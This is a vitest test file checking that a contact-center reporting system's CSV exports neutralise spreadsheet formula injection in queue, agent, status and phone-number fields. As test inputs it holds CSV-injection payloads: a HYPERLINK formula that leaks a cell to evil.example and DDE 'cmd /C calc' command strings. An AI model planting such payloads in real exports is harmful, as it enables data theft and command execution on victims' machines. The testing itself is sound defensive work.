/**
 * Names in report and real-time CSVs cannot run as spreadsheet formulas
 * (OWASP, "CSV Injection"): a text cell starting with =, +, -, @, tab or
 * carriage return gets a leading single quote; numbers, durations,
 * percentages and the "-" of no data are left as they are.
 */
import { parse as csvParse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EMPTY_DIMS } from '../../../lambdas/domain/dimensions.js';
import type { AgentSession, TimelinePoint } from '../../../lambdas/domain/engine/agent-activity.js';
import { EntityCatalog } from '../../../lambdas/domain/engine/entities.js';
import type { RollupRow } from '../../../lambdas/domain/engine/rollup.js';
import { realtimeCsv } from '../../../lambdas/domain/realtime/report.js';
import { parseWindow } from '../../../lambdas/domain/realtime/windows.js';
import { activityAuditRows } from '../../../lambdas/domain/reports/activity-audit.js';
import { parseReportDefinitions } from '../../../lambdas/domain/reports/definitions.js';
import { csvPhoneNumber, csvText, NO_DATA } from '../../../lambdas/domain/reports/format.js';
import { historicalReportRows } from '../../../lambdas/domain/reports/historical.js';
import { loginLogoutRows } from '../../../lambdas/domain/reports/login-logout.js';
import { loadRealtimeReport } from '../../../lambdas/realtime/realtime-view.js';
import { csvChunks } from '../../../lambdas/reporting/csv-stream.js';
import { agentArn, queueRef, ref } from '../../support/builders.js';
import { agentState, MemoryReader } from '../../realtime/fixtures.js';

/** Names a spreadsheet would run, with the cell each must become. */
const HOSTILE: ReadonlyArray<readonly [name: string, cell: string]> = [
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
  ['+1', `'+1`],
  ['-x', `'-x`],
  ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
  ['\tfoo', `'\tfoo`],
  ['\rbar', `'\rbar`],
];

const t = (iso: string) => Date.parse(iso);
const NY = 'America/New_York';
const cellsOf = (csv: string): string[][] => csvParse(csv, { relax_column_count: true }) as string[][];

describe('csvText', () => {
  it.each(HOSTILE)('neutralises %j', (name, cell) => {
    expect(csvText(name)).toBe(cell);
  });

  it.each(['Sales', 'Queue = main', '', '00:01:30', '85.71%', '12', 'dana', '2026-03-10T09:00:00-04:00'])('leaves %j as it is', (text) => {
    expect(csvText(text)).toBe(text);
  });

  it('leaves the bare dash of no data a dash', () => {
    expect(csvText(NO_DATA)).toBe('-');
  });
});

describe('historical report CSV', () => {
  const ARN = 'arn:aws:connect:us-east-1:123456789012:instance/i-1';
  const queue = (i: number) => `${ARN}/queue/q${i}`;
  const catalog = new EntityCatalog();
  HOSTILE.forEach(([name], i) => catalog.put({ kind: 'queue', id: queue(i), arn: queue(i), name, seenMs: 1 }));
  const [def] = parseReportDefinitions({
    reports: [
      {
        name: 'queues',
        type: 'HISTORICAL',
        groupings: ['QUEUE'],
        metrics: ['Contacts queued', 'Service level 60 seconds', 'Average handle time'],
        interval: 'TOTAL',
        timeRange: 'YESTERDAY',
        timeZone: NY,
        schedule: { frequency: 'DAILY', at: '00:00' },
      },
    ],
  });
  if (def?.type !== 'HISTORICAL') throw new Error('expected a historical definition');
  // Every queue: 7 queued, 6 within 60 s, nothing handled (so no handle time: a dash).
  const rows: RollupRow[] = HOSTILE.map((_, i) => ({
    group: [queue(i)],
    intervalStartMs: t('2026-03-10T04:00:00Z'),
    intervalEndMs: t('2026-03-11T04:00:00Z'),
    primitives: { ctr_records: 7, contacts_queued: 7, removed_in_60: 6 },
  }));

  it('quotes every hostile queue name and leaves counts, percentages and dashes alone', () => {
    const report = historicalReportRows(def, rows, catalog);
    const parsed = cellsOf([...csvChunks(report.header, report.rows)].join(''));
    expect(parsed[0]).toEqual(['Queue', 'Contacts queued', 'Service level 60 seconds', 'Average handle time']);
    expect(new Set(parsed.slice(1).map((r) => r[0]))).toEqual(new Set(HOSTILE.map(([, cell]) => cell)));
    for (const r of parsed.slice(1)) expect(r.slice(1)).toEqual(['7', '85.71%', '-']);
  });

  it('quotes an agent name (Last, First) that starts like a formula', () => {
    const agentCatalog = new EntityCatalog();
    const dana = `${ARN}/agent/dana`;
    agentCatalog.put({ kind: 'agent', id: dana, arn: dana, name: '@dana', firstName: 'Dana', lastName: '=Scully', seenMs: 1 });
    const agentDef = { ...def, groupings: ['AGENT' as const], agentName: true, metrics: def.metrics.slice(0, 1) };
    const report = historicalReportRows(agentDef, [{ ...rows[0], group: [dana] } as RollupRow], agentCatalog);
    expect([...report.rows]).toEqual([[`'@dana`, `'=Scully, Dana`, '7']]);
  });
});

describe('login/logout report', () => {
  const ARN = 'arn:aws:connect:us-east-1:123456789012:instance/i-1';
  const dana = `${ARN}/agent/dana`;
  const profile = `${ARN}/routing-profile/rp`;
  const group = `${ARN}/agent-group/g`;
  const catalog = new EntityCatalog();
  catalog.put({ kind: 'agent', id: dana, arn: dana, name: '-dana', firstName: '+Dana', lastName: '\tScully', seenMs: 1 });
  catalog.put({ kind: 'routingProfile', id: profile, arn: profile, name: '=cmd|" /C calc"!A0', seenMs: 1 });
  catalog.put({ kind: 'hierarchyGroup', id: group, arn: group, name: '@North', seenMs: 1 });
  const session: AgentSession = { agentArn: dana, loginMs: t('2026-03-10T08:00:00-04:00'), logoutMs: t('2026-03-10T09:00:00-04:00') };

  it('quotes login, names, routing profile and hierarchy; times and duration are unchanged', () => {
    const { rows } = loginLogoutRows([session], catalog, {
      startMs: t('2026-03-10T00:00:00-04:00'),
      endMs: t('2026-03-11T00:00:00-04:00'),
      zone: NY,
      agentInfo: () => ({ ...EMPTY_DIMS, routingProfile: profile, hierarchy1: group }),
    });
    expect(rows).toEqual([[`'-dana`, `'+Dana`, `'\tScully`, `'=cmd|" /C calc"!A0`, `'@North`, '2026-03-10T08:00:00-04:00', '2026-03-10T09:00:00-04:00', '01:00:00']]);
  });
});

describe('agent activity audit report', () => {
  it('quotes a hostile login and status name', () => {
    const dana = agentArn('dana');
    const catalog = new EntityCatalog();
    catalog.put({ kind: 'agent', id: dana, arn: dana, name: '=dana', seenMs: 1 });
    const point = (iso: string, statusName: string): TimelinePoint => ({
      eventId: iso,
      eventMs: t(iso),
      type: 'STATE_CHANGE',
      statusType: 'CUSTOM',
      statusName,
      dims: { ...EMPTY_DIMS, agent: dana },
      contacts: [],
    });
    const timeline = [point('2026-03-10T09:00:00-04:00', '+Lunch'), point('2026-03-10T10:00:00-04:00', 'Training')];
    const { rows } = activityAuditRows([{ agentArn: dana, points: timeline }], catalog, { startMs: t('2026-03-10T00:00:00-04:00'), endMs: t('2026-03-10T10:00:00-04:00'), zone: NY });
    expect(rows).toEqual([[`'=dana`, '2026-03-10', `'+Lunch`, '', '', '2026-03-10T09:00:00-04:00', '2026-03-10T10:00:00-04:00', '01:00:00']]);
  });
});

describe('real-time views CSV', () => {
  const NOW = t('2026-03-10T12:00:00Z');
  const [q0, q1] = ['=HYPERLINK("http://evil.example","x")', '-sales'];
  const profile = '@Basic';
  const catalog = new EntityCatalog();
  for (const name of [q0, q1]) catalog.put({ kind: 'queue', id: queueRef(name).id, arn: queueRef(name).arn, name, seenMs: 0 });
  catalog.put({ kind: 'routingProfile', id: ref('routing-profile', profile).id, arn: ref('routing-profile', profile).arn, name: profile, seenMs: 0 });
  const reader = new MemoryReader([agentState({ agent: 'alice', status: '+Break', at: '2026-03-10T11:59:00Z', queues: [q0, q1], profile })], [], new Map(), catalog);

  it('quotes queue, routing-profile and status names; counts and dashes are unchanged', async () => {
    const { report, entities } = await loadRealtimeReport(reader, null, { nowMs: NOW, window: parseWindow('1') });
    const csv = realtimeCsv(report, entities);
    const queues = cellsOf(csv.queues);
    const header = queues[0] ?? [];
    const row = (name: string) => queues.find((r) => r[0] === name) ?? [];
    expect([row(`'${q0}`).length, row(`'${q1}`).length]).toEqual([header.length, header.length]);
    // One agent, online in a custom status: Online 1, NPT 1; no contact events, so In queue is a dash.
    expect(row(`'${q1}`)[header.indexOf('Online')]).toBe('1');
    expect(row(`'${q1}`)[header.indexOf('In queue')]).toBe('-');
    expect(cellsOf(csv.routingProfiles).map((r) => r[0])).toContain(`'${profile}`);

    const agents = cellsOf(csv.agents);
    const cols = agents[0] ?? [];
    const alice = agents[1] ?? [];
    expect(alice[cols.indexOf('Routing Profile')]).toBe(`'${profile}`);
    // The status shows in Status and Agent Status: quoted wherever it appears.
    const statusCells = alice.filter((c) => c.includes('Break'));
    expect(statusCells.length).toBeGreaterThan(0);
    expect(new Set(statusCells)).toEqual(new Set([`'+Break`]));
    expect(alice[cols.indexOf('Agent Hierarchy')]).toBe('-');
    expect(alice[cols.indexOf('Duration')]).toMatch(/^\d\d:\d\d:\d\d$|^-$/);
  });

  it('keeps the names raw in the report the dashboard renders as HTML', async () => {
    const { report } = await loadRealtimeReport(reader, null, { nowMs: NOW, window: parseWindow('1') });
    expect(report.queues.map((r) => r.name)).toEqual(expect.arrayContaining([q0, q1]));
  });
});

describe('phone numbers', () => {
  it.each(['+18005550100', '+442071838750', '+12'])('leaves the E.164 number %s as it is (a spreadsheet reads a number; the golden reports keep it)', (n) => {
    expect(csvPhoneNumber(n)).toBe(n);
  });

  it.each([
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['=1+1', `'=1+1`],
    ['+0123', `'+0123`],
    ['-18005550100', `'-18005550100`],
  ])('neutralises %j, which is not an E.164 number', (text, cell) => {
    expect(csvPhoneNumber(text)).toBe(cell);
  });

  it('the historical report neutralises a phone-number group that is not E.164', () => {
    const [def] = parseReportDefinitions({
      reports: [
        {
          name: 'numbers',
          type: 'HISTORICAL',
          groupings: ['PHONE_NUMBER'],
          metrics: ['Contacts queued'],
          interval: 'TOTAL',
          timeRange: 'YESTERDAY',
          timeZone: NY,
          schedule: { frequency: 'DAILY', at: '00:00' },
        },
      ],
    });
    if (def?.type !== 'HISTORICAL') throw new Error('expected a historical definition');
    const row = (phone: string): RollupRow => ({ group: [phone], intervalStartMs: 0, intervalEndMs: 1, primitives: { ctr_records: 1, contacts_queued: 1 } });
    const report = historicalReportRows(def, [row('+18005550100'), row('@1')], new EntityCatalog());
    expect([...report.rows].map((r) => r.join(',')).sort()).toEqual([`'@1,1`, '+18005550100,1']);
  });
});
